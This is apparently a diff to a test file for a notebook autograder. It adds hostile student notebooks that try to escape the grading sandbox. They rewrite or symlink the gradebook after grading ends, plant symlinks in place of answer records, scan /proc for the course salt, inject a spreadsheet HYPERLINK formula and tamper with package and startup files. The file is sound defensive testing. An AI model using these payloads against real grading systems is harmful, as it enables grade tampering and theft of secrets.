@@ -3,12 +3,15 @@
 An instructor's folder (roster, salt file, handouts, keys, submissions, an IPython profile) is graded with
 ``--jobs 2`` from inside that folder. Besides two honest students (the key: 3/3; the untouched handout:
 0/3), every other student submits a chapter-4 notebook that attacks the grader: a detached process that
-waits for the grader to finish and then rewrites the gradebook; edits of the keys, the roster, a
-classmate's submission, the installed package, the virtual environment (a ``.pth`` file) and the IPython
-startup folder; answers asked of ``expected()``, ``solve()`` and the private solvers, and brute force
-with ``check()``; the keys read, directly and through ``/proc/<ppid>/cwd``; the other kernel's connection
-file; a FIFO in place of the answer record; its own run killed (``os.getppid()``); a huge answer, a
-spreadsheet formula, a flood of output and a huge allocation; raw sockets, UDP and TCP to the machine.
+waits for the grader to finish and then rewrites the gradebook or puts a link to the roster in its place;
+edits of the keys, the roster, a classmate's submission, the installed package, the virtual environment (a
+``.pth`` file) and the IPython startup folder, and links to the roster in place of the gradebook and its
+journal; answers asked of ``expected()``, ``solve()`` and the private solvers, and brute force with
+``check()``; the keys read, directly and through ``/proc/<ppid>/cwd``; the course salt looked for in every
+``/proc/*/cmdline``, ``environ``, ``cwd`` and open file it can see; the other kernel's connection file; a
+FIFO, and a link to a key, in place of the answer record; its own run killed (``os.getppid()``); a huge
+answer, a spreadsheet formula, a flood of output and a huge allocation; raw sockets, UDP and TCP to the
+machine.
 
 Each notebook reports, in its first answer, what it managed (``escaped:`` followed by nothing when the
 sandbox held). The test then checks that no file outside the scratch folders changed (every file of the
@@ -77,13 +80,22 @@ GB = os.path.join(HOME, "gradebook.csv")
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
-        time.sleep(4)
+        for _ in range(300):  # until the grader has written the gradebook and ended (when it can see it)
+            time.sleep(0.2)
+            if os.path.isfile(GB) and not os.path.islink(GB):
+                break
+        time.sleep(1)
         for target in (GB, os.path.join(HOME, "detached-was-here")):
             try:
                 with open(target, "w") as handle:
                     handle.write("student_id,chapter,question,correct\\nh-detach,{SIGNALS},{GAP},True\\n")
             except OSError:
                 pass
+        try:  # a link in place of the gradebook: grades written through it would land in the roster
+            os.symlink(os.path.join(HOME, "roster.csv"), GB + ".link")
+            os.replace(GB + ".link", GB)
+        except OSError:
+            pass
         os.execv("/bin/sleep", ["sleep", "{SLEEPER}"])
     os._exit(0)
 """,
@@ -99,13 +111,21 @@ def attempt(name, path, mode="a", text="\\n# hostile\\n"):  # only where the fol
 attempt("keys", os.path.join(HOME, "keys", "ana", "{SIGNALS}.ipynb"), "w", "{{}}")
 attempt("roster", os.path.join(HOME, "roster.csv"), "a", "mallory\\n")
 attempt("classmate", os.path.join(HOME, "submissions", "ana", "{SIGNALS}.ipynb"), "w", "{{}}")
-attempt("salt", os.path.join(HOME, "salt.txt"), "w", "guessed")
+attempt("salt", os.path.join(HOME, "salt.txt"), "a", "guessed\\n")
 attempt("package", os.path.join(os.path.dirname(mesbook.__file__), "_hostile.py"), "w", "X = 1\\n")
 attempt("package-init", mesbook.__file__)
 for folder in site.getsitepackages():
     attempt("pth", os.path.join(folder, "_hostile.pth"), "w", "import os\\n")
 attempt("ipython", os.path.join(HOME, ".ipython", "profile_default", "startup", "00-hostile.py"), "w",
         "from mesbook import exercises\\nexercises.check = lambda *a, **k: True\\n")
+for name, link in (("gradebook-link", os.path.join(HOME, "gradebook.csv")),
+                   ("journal-link", os.path.join(HOME, "gradebook.csv.partial"))):
+    try:
+        os.symlink(os.path.join(HOME, "roster.csv"), link + ".hostile")
+        os.replace(link + ".hostile", link)
+        ESCAPED.append(name)
+    except OSError:
+        pass
 """,
     "h-oracle": f"""
 from mesbook import exercises
@@ -182,6 +202,22 @@ try:
 except OSError:
     pass
 """,
+    "h-salt": """
+texts = [repr(dict(os.environ)), " ".join(sys.argv)]
+for pattern in ("/proc/*/cmdline", "/proc/*/environ", "/proc/*/cwd/salt.txt", "/proc/*/root" + HOME + "/salt.txt",
+                "/proc/*/fd/*", HOME + "/salt.txt"):
+    for path in glob.glob(pattern):
+        try:
+            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+            try:
+                texts.append(os.read(fd, 1 << 16).decode("utf-8", "replace"))
+            finally:
+                os.close(fd)
+        except OSError:
+            pass
+if any(SALT_SEEN in text for text in texts):
+    ESCAPED.append("salt")
+""",
     "h-huge": f"""
 FOUND["{FIRST}"] = "2" * 20_000_000
 FOUND["{REJECTED}"] = '=HYPERLINK("http://example.org/?leak","click")'
@@ -203,6 +239,10 @@ os.mkfifo("/scratch/answers.jsonl")
 os.mkdir("/scratch/outcome.json")
 """,
     "h-kill": "os.kill(os.getppid(), 9)\n",
+    "h-link": f"""
+os.unlink("/scratch/answers.jsonl")
+os.symlink(os.path.join(HOME, "keys", "ana", "{SIGNALS}.ipynb"), "/scratch/answers.jsonl")
+""",
     "h-brute": f"""
 from mesbook import exercises
 for guess in [*range(500), -2]:
@@ -268,7 +308,7 @@ def attacked(tmp_path_factory):
     tcp.bind(("0.0.0.0", 0))
     tcp.listen(8)
     constants = {"HOME": str(home), "HOST_IP": host_ip(), "UDP_PORT": udp.getsockname()[1],
-                 "TCP_PORT": tcp.getsockname()[1]}
+                 "TCP_PORT": tcp.getsockname()[1], "SALT_SEEN": SALT}
     subs = home / "submissions"
     for student in HOSTILE:
         handout = nbformat.read(str(home / "handouts" / student / f"{SIGNALS}.ipynb"), as_version=4)
@@ -291,7 +331,7 @@ def attacked(tmp_path_factory):
     finally:
         os.chdir(cwd)
     graded_at = time.monotonic()
-    time.sleep(max(0.0, 8 - (time.monotonic() - graded_at)))  # the detached process would have acted by now
+    time.sleep(max(0.0, 6 - (time.monotonic() - graded_at)))  # the detached process would have acted by now
     udp.setblocking(False)
     tcp.setblocking(False)
     reached = []
@@ -325,6 +365,9 @@ def expected_rows() -> list[list[str]]:
             cells = {key: ["False", "", "no answer: still None"] for key in right}
         elif student == "h-fifo":
             note = "no answer: its answer record can't be used (answers.jsonl is not a regular file)"
+            cells = {key: ["False", "", note] for key in right}
+        elif student == "h-link":
+            note = "no answer: its answer record can't be used (answers.jsonl is a symbolic link, not a file)"
             cells = {key: ["False", "", note] for key in right}
         else:
             cells = {GAP: ["False", "escaped:", "the answer is a str, not a number"],
@@ -371,3 +414,4 @@ def test_spreadsheet_formulas_are_escaped_and_long_answers_cut(attacked):
     with open(attacked["home"] / "gradebook.csv", newline="", encoding="utf-8") as handle:
         assert max(len(value) for row in csv.reader(handle) for value in row) < 400
     json.dumps(attacked["table"])  # plain text all through
+
